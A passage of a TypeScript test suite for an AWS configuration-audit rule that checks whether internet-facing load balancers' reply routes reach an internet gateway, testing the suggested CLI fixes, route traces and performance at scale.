      assert.deepEqual([after.trace, after.rule], ["allow", "allow"], after.findings.map((f) => f.message).join("\n"));
    });

  /** web-alb recreated in the private subnets (their table, the VPC's main one, sends 0.0.0.0/0 to the NAT gateway) */
  const inPrivate = (b: AwsScenario, type: "application" | "network" = "application") =>
    b.removeLoadBalancer(ids.lb.alb).loadBalancer({
      name: "web-alb",
      type,
      subnets: [
        { id: ids.subnet.privateA, az: "us-east-1a" },
        { id: ids.subnet.privateB, az: "us-east-1b" },
      ],
      ...(type === "application" ? { sgs: [ids.sg.alb] } : {}),
    });
  const splitNat = (b: AwsScenario, rtb: string) =>
    b.route(rtb, { destination: "0.0.0.0/1", target: ids.nat }).route(rtb, { destination: "128.0.0.0/1", target: ids.nat });
  const splitIgw = (b: AwsScenario, rtb: string) =>
    b
      .route(rtb, { destination: "0.0.0.0/0", target: ids.nat })
      .route(rtb, { destination: "0.0.0.0/1", target: ids.igw })
      .route(rtb, { destination: "128.0.0.0/1", target: ids.igw });

  it("the fix moves an ALB only to subnets whose replies reach the internet gateway, as the rule decides them (not by the default route alone); once it ran, the rule passes", async () => {
    // the public subnets' table sends 0.0.0.0/0 to the IGW, but every public address to the NAT gateway: no move there
    const failing = inPrivate(splitNat(healthyAlb(), ids.rtb.public)).build();
    const findings = evaluateCase(igwRule, failing);
    assert.ok(findings.length === 2 && findings.every((f) => f.status === "fail"));
    const commands = fixOf(findings);
    assert.ok(
      commands.every((c) => !c.includes("set-subnets")),
      commands.join("\n"),
    );
    assert.deepEqual(
      evaluateCase(igwRule, await applied(failing, commands)).map((f) => f.status),
      ["pass", "pass"],
    );
    // the public subnets' table sends 0.0.0.0/0 to the NAT gateway, but every public address to the IGW: the move is there
    const public_ = inPrivate(splitIgw(healthyAlb(), ids.rtb.public)).build();
    const moved = fixOf(evaluateCase(igwRule, public_));
    assert.deepEqual(moved, [
      `aws elbv2 set-subnets --load-balancer-arn ${ids.lb.alb} --subnets ${ids.subnet.publicA} ${ids.subnet.publicB}`,
    ]);
    assert.deepEqual(
      evaluateCase(igwRule, await applied(public_, moved)).map((f) => f.status),
      ["pass", "pass"],
    );
  });

  it("the fix associates an NLB's subnets only with a route table whose replies reach the internet gateway, as the rule decides them; once it ran, the rule passes", async () => {
    const good = awsId("rtb", "split-igw");
    const b = () =>
      splitIgw(
        inPrivate(splitNat(healthyAlb(), ids.rtb.public), "network").routeTable({ id: good, name: "split-igw", subnets: [], routes: [] }),
        good,
      );
    const snap = b().build();
    const findings = evaluateCase(igwRule, snap);
    assert.deepEqual(
      findings.map((f) => f.status),
      ["fail", "fail"],
    );
    const commands = fixOf(findings);
    assert.deepEqual(commands, [
      `aws ec2 associate-route-table --route-table-id ${good} --subnet-id ${ids.subnet.privateA}`,
      `aws ec2 associate-route-table --route-table-id ${good} --subnet-id ${ids.subnet.privateB}`,
    ]);
    assert.deepEqual(
      evaluateCase(igwRule, await applied(snap, commands)).map((f) => f.status),
      ["pass", "pass"],
    );
  });

  /** `n` internet-facing ALBs like web-alb, each in two of `subnets` new subnets (each with its own table, public) */
  const many = (subnets: number, n: number, type: string, extra?: (s: AwsSnapshot) => void) =>
    healthyAlb()
      .edit((s) => {
        const ec2 = s.ec2 as NonNullable<AwsSnapshot["ec2"]>;
        for (let i = 0; i < subnets; i++) {
          const id = awsId("subnet", `many-${i}`);
          ec2.Subnets?.push({
            SubnetId: id,
            VpcId: ids.vpc,
            CidrBlock: `10.${100 + (i >> 8)}.${i & 255}.0/24`,
            AvailabilityZone: i % 2 ? "us-east-1b" : "us-east-1a",
            OwnerId: ACCOUNT,
            SubnetArn: `arn:aws:ec2:us-east-1:${ACCOUNT}:subnet/${id}`,
            Ipv6CidrBlockAssociationSet:
              type === "dualstack"
                ? [
                    {
                      AssociationId: `many-${i}`,
                      Ipv6CidrBlock: `2600:1f18:4a1:${(0x2200 + 2 * i).toString(16)}::/64`,
                      Ipv6CidrBlockState: { State: "associated" },
                    },
                  ]
                : [],
          });
          const rtb = awsId("rtb", `many-${i}`);
          ec2.RouteTables?.push({
            RouteTableId: rtb,
            VpcId: ids.vpc,
            OwnerId: ACCOUNT,
            Associations: [{ Main: false, SubnetId: id, RouteTableId: rtb, RouteTableAssociationId: awsId("rtbassoc", `many-${i}`) }],
            Routes: [
              v4("10.0.0.0/8", { GatewayId: "local" }),
              v6("2600:1f18:4a1:2100::/52", { GatewayId: "local" }),
              v4("0.0.0.0/0", { GatewayId: ids.igw }),
              v6("::/0", { GatewayId: ids.igw }),
              v4("172.16.0.0/12", { TransitGatewayId: awsId("tgw", "corp") }),
            ],
          });
        }
        const web = s.elbv2.LoadBalancers?.find((x) => x.LoadBalancerArn === ids.lb.alb) as Wire;
        for (let j = 0; j < n; j++) {
          const zones = [(2 * j) % subnets, (2 * j + 1) % subnets];
          s.elbv2.LoadBalancers?.push({
            ...web,
            LoadBalancerArn: String(web.LoadBalancerArn).replace("web-alb", `many-${j}`),
            LoadBalancerName: `many-${j}`,
            IpAddressType: type,
            AvailabilityZones: zones.map((x) => ({
              ZoneName: x % 2 ? "us-east-1b" : "us-east-1a",
              SubnetId: awsId("subnet", `many-${x}`),
              LoadBalancerAddresses: [],
            })),
          });
        }
        extra?.(s);
      })
      .build();

  it("the IPv6 clients on the internet of a VPC's load balancers are computed once per model and VPC, and shared", async () => {
    const { internetClients } = await import("../src/providers/aws/igw-routes.ts");
    const model = buildAwsModel(many(20, 3, "dualstack"));
    const [a, b] = model.loadBalancers.filter((x) => x.name.startsWith("many-"));
    assert.ok(a && b);
    const first = internetClients(model, a, true);
    const second = internetClients(model, b, true, true);
    assert.ok(first.space, "the clients' space comes with them");
    assert.equal(second.space, first.space, "one space for the VPC");
    assert.equal(second.cidrs, first.cidrs);
    // the VPC's own subnets are not clients on the internet
    assert.ok(!first.cidrs.includes("2600:1f18:4a1:2200::/64") && first.cidrs.length > 20);
    assert.equal(internetClients(model, a, false).space, internetClients(model, b, false, true).space);
    // another model: its own
    assert.notEqual(internetClients(buildAwsModel(many(20, 3, "dualstack")), a, true).space, first.space);
  });

  it("1000 IPv6 subnets and 800 dualstack load balancers: the rule takes time linear in them (under 3 s, where recomputing the clients per load balancer took many times that)", () => {
    const model = buildAwsModel(many(1000, 800, "dualstack"));
    const t0 = performance.now();
    let results = 0;
    let notPass = 0;
    igwRule.check({
      model,
      report: (r) => {
        results++;
        if (r.status !== "pass") notPass++;
      },
    });
    const ms = performance.now() - t0;
    assert.equal(results, 2 * 801);
    assert.equal(notPass, 0);
    assert.ok(ms < 3000, `${ms.toFixed(0)} ms`);
  });

  it("3000 DescribeRouteTables gaps on other internet gateways: each gap is read a few times in all, not once per zone, and every zone still passes", () => {
    const model = buildAwsModel(
      many(40, 300, "ipv4", (s) => {
        s.gaps = [
          ...(s.gaps ?? []),
          ...Array.from({ length: 3000 }, (_, i) => ({
            operation: "ec2:DescribeRouteTables",
            resourceId: awsId("igw", `other-${i}`),
            status: 503,
            code: "ServiceUnavailable",
            message: "Service Unavailable",
          })),
        ];
      }),
    );
    // every read of a gap's fields, counted (a new list: no index of the old one stands in)
    let reads = 0;
    model.gaps = model.gaps.map(
      (g) =>
        new Proxy(g, {
          get(t, p, r) {
            reads++;
            return Reflect.get(t, p, r);
          },
        }),
    );
    const statuses: string[] = [];
    igwRule.check({ model, report: (r) => void statuses.push(r.status) });
    assert.equal(statuses.length, 2 * 301);
    assert.ok(
      statuses.every((x) => x === "pass"),
      statuses.join(" "),
    );
    // 602 zones: a scan of every gap per zone is over 1.8 million reads
    assert.ok(reads < 20 * 3000, `${reads} reads of 3000 gaps`);
  });
});

describe("aws/internet-facing-in-private-subnets and the trace: a route to a connected network wider than one network's range, and a default route to one", () => {
  type Wire = Record<string, unknown>;
  const RANKED = { allow: 0, unknown: 1, deny: 2 } as const;
  const AS = { pass: "allow", fail: "deny", unknown: "unknown" } as const;
  const vgw = awsId("vgw", "corp");
  const tgw = awsId("tgw", "egress");
  /** the trace's route-table hop for clients `from` (no hop: allow) */
  const hopOf = (snap: AwsSnapshot, from: string) => {
    const { model, r } = route(snap, 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp").hops.find((h) => h.layer === "lb-route");
  };
  const verdictOf = (snap: AwsSnapshot, from: string) => hopOf(snap, from)?.verdict ?? "allow";
  /** the rule's findings and its worst status, as the trace's words */
  const ruleOf = (snap: AwsSnapshot) => {
    const findings = evaluateCase(igwRule, snap);
    assert.ok(findings.length > 0);
    const worst = findings.map((f) => AS[f.status as keyof typeof AS]).reduce((a, b) => (RANKED[b] > RANKED[a] ? b : a));
    return { findings, worst };
  };
  /** the snapshot once the route commands ran (`<igw-id>`: the VPC's internet gateway) */
  const applied = (snap: AwsSnapshot, commands: string[]): AwsSnapshot => {
    const s = structuredClone(snap);
    for (const c of commands) {
      const w = c.split(" ").map((x) => x.replace(/^'(.*)'$/, "$1"));
      const arg = (flag: string) => w[w.indexOf(flag) + 1] as string;
      if (w[2] === "describe-internet-gateways") continue;
      assert.ok(w[2] === "replace-route" || w[2] === "create-route" || w[2] === "delete-route", c);
      const t = s.ec2?.RouteTables?.find((x) => x.RouteTableId === arg("--route-table-id")) as Wire & { Routes: Wire[] };
      const dest = arg("--destination-cidr-block");
      t.Routes = t.Routes.filter((r) => r.DestinationCidrBlock !== dest);
      if (w[2] === "delete-route") continue;
      const gw = arg("--gateway-id");
      t.Routes.push({ DestinationCidrBlock: dest, GatewayId: gw.startsWith("<") ? ids.igw : gw, Origin: "CreateRoute", State: "active" });
    }
    return s;
  };

  it("0.0.0.0/0 to the internet gateway and 0.0.0.0/1 to a virtual private gateway: the rule and the trace of the internet say unknown, naming the route; a client in 0.0.0.0/1 is denied without a route fix, one outside it allowed", () => {
    const snap = healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/1", target: vgw }).build();
    const { findings, worst } = ruleOf(snap);
    assert.equal(worst, "unknown");
    assert.deepEqual(
      findings.map((f) => f.status),
      ["unknown", "unknown"],
    );
    const why = `route table ${ids.rtb.public} (explicitly associated) sends 0.0.0.0/1 to ${vgw}: the reply to part of clients on the internet (1.0.0.0/8, 2.0.0.0/7, 4.0.0.0/6, 8.0.0.0/7, …) never reaches an internet gateway: trace one client address`;
    for (const f of findings) {
      assert.ok(f.message.endsWith(`${why}.`), f.message);
      assert.ok(f.evidence.some((e) => e.label === "route to 0.0.0.0/1"));
    }
    const internet = hopOf(snap, "Internet");
    assert.equal(internet?.verdict, "unknown");
    assert.ok(internet?.notes.some((n) => n.text.endsWith(why)));
    // 8.8.8.8 is in 0.0.0.0/1: its reply goes to the VPN
    const client = hopOf(snap, "8.8.8.8");
    assert.equal(client?.verdict, "deny");
    assert.equal(client?.fixes, undefined);
    assert.ok(
      client?.notes.some((n) =>
        n.text.startsWith(
          `no internet-gateway fix: routes to networks connected to the VPC (0.0.0.0/1 to ${vgw}) take the reply to 8.8.8.8`,
        ),
      ),
      client?.notes.map((n) => n.text).join("\n"),
    );
    // 200.1.2.3 is not: its reply takes 0.0.0.0/0 to the internet gateway
    assert.equal(verdictOf(snap, "200.1.2.3"), "allow");
  });

  it("the width a connected network's route is read as that network's own: an IPv4 /8 and an IPv6 /32 pass in the rule and the trace, a /7 and a /31 are unknown", () => {
    const dual = (dest: string) =>
      withIpv6Igw(healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack"))).edit((s) => {
        const t = s.ec2?.RouteTables?.find((x) => x.RouteTableId === ids.rtb.public) as Wire & { Routes: Wire[] };
        t.Routes.push({ DestinationIpv6CidrBlock: dest, TransitGatewayId: awsId("tgw", "core"), State: "active" });
      });
    const rows: Array<[AwsSnapshot, string, "allow" | "unknown"]> = [
      [
        healthyAlb()
          .route(ids.rtb.public, { destination: "11.0.0.0/8", target: awsId("tgw", "corp") })
          .build(),
        "Internet",
        "allow",
      ],
      [
        healthyAlb()
          .route(ids.rtb.public, { destination: "12.0.0.0/7", target: awsId("tgw", "corp") })
          .build(),
        "Internet",
        "unknown",
      ],
      [dual("2a05:d000::/32").build(), "Internet-IPv6", "allow"],
      [dual("2a04::/31").build(), "Internet-IPv6", "unknown"],
    ];
    for (const [snap, from, want] of rows) {
      assert.equal(verdictOf(snap, from), want, from);
      assert.equal(ruleOf(snap).worst, want);
    }
  });

  it("0.0.0.0/0 to a transit gateway (centralized egress): a failure in the rule and a deny in the trace, both with the internet-gateway route fix and its caveat; the fix makes both allow", () => {
    const snap = healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: tgw }).build();
    const commands = [
      `aws ec2 describe-internet-gateways --filters '[{"Name":"attachment.vpc-id","Values":["${ids.vpc}"]}]'`,
      `aws ec2 replace-route --route-table-id ${ids.rtb.public} --destination-cidr-block 0.0.0.0/0 --gateway-id '<igw-id>'`,
    ];
    const summary = `Route 0.0.0.0/0 from ${ids.rtb.public} to the VPC's internet gateway. Its 0.0.0.0/0 route now goes to ${tgw}, a network connected to the VPC (centralized egress through an inspection VPC, say): once replaced, the subnet's outbound traffic to 0.0.0.0/0 leaves through the internet gateway and bypasses ${tgw}.`;
    const { findings, worst } = ruleOf(snap);
    assert.equal(worst, "deny");
    assert.deepEqual(
      findings.map((f) => [f.status, f.remediation?.summary, f.remediation?.commands]),
      [
        ["fail", summary, commands],
        ["fail", summary, commands],
      ],
    );
    for (const from of ["Internet", "8.8.8.8"]) {
      const hop = hopOf(snap, from);
      assert.equal(hop?.verdict, "deny", from);
      assert.deepEqual(hop?.fixes, [{ summary, commands }], from);
    }
    const after = applied(snap, commands);
    assert.deepEqual([verdictOf(after, "Internet"), ruleOf(after).worst], ["allow", "allow"]);
  });

  it("0.0.0.0/0 to a transit gateway, and a partner's /24 to a peering connection: the fix replaces the default route and keeps the partner's", () => {
    const snap = healthyAlb()
      .route(ids.rtb.public, { destination: "0.0.0.0/0", target: tgw })
      .route(ids.rtb.public, { destination: "203.0.113.0/24", target: awsId("pcx", "partner") })
      .build();
    const commands = ruleOf(snap).findings.flatMap((f) => f.remediation?.commands ?? []);
    assert.equal(commands.length, 4);
    assert.ok(
      commands.every((c) => !c.includes("delete-route") && !c.includes("203.0.113.0/24")),
      commands.join("\n"),
    );
    assert.deepEqual(hopOf(snap, "Internet")?.fixes?.[0]?.commands, commands.slice(0, 2));
    const after = applied(snap, commands.slice(0, 2));
    assert.deepEqual([verdictOf(after, "Internet"), ruleOf(after).worst], ["allow", "allow"]);
  });

  it("0.0.0.0/1 and 128.0.0.0/1 to a virtual private gateway beside the IGW default route: a failure and a deny, without a route fix (the VPN's routes are never deleted), the trace saying why", () => {
    const snap = healthyAlb()
      .route(ids.rtb.public, { destination: "0.0.0.0/1", target: vgw })
      .route(ids.rtb.public, { destination: "128.0.0.0/1", target: vgw })
      .build();
    const { findings, worst } = ruleOf(snap);
    assert.equal(worst, "deny");
    assert.deepEqual(
      findings.map((f) => [f.status, f.remediation]),
      [
        ["fail", undefined],
        ["fail", undefined],
      ],
    );
    const hop = hopOf(snap, "Internet");
    assert.equal(hop?.verdict, "deny");
    assert.equal(hop?.fixes, undefined);
    assert.ok(
      hop?.notes.some((n) =>
        n.text.startsWith(
          `no internet-gateway fix: routes to networks connected to the VPC (0.0.0.0/1 to ${vgw}, 128.0.0.0/1 to ${vgw}) take the reply to clients on the internet`,
        ),
      ),
      hop?.notes.map((n) => n.text).join("\n"),
    );
  });

  it("0.0.0.0/1 to a transit gateway and 128.0.0.0/1 to a NAT gateway beside the IGW default route: the fix deletes the NAT route only, and what is left is unknown (half the internet still goes to the transit gateway)", () => {
    const snap = healthyAlb()
      .route(ids.rtb.public, { destination: "0.0.0.0/1", target: tgw })
      .route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.nat })
      .build();
    const { findings, worst } = ruleOf(snap);
    assert.equal(worst, "deny");
    const commands = [...new Set(findings.flatMap((f) => f.remediation?.commands ?? []))];
    assert.deepEqual(commands, [`aws ec2 delete-route --route-table-id ${ids.rtb.public} --destination-cidr-block 128.0.0.0/1`]);
    assert.deepEqual(hopOf(snap, "Internet")?.fixes?.[0]?.commands, commands);
    const after = applied(snap, commands);
    assert.deepEqual([verdictOf(after, "Internet"), ruleOf(after).worst], ["unknown", "unknown"]);
  });
});
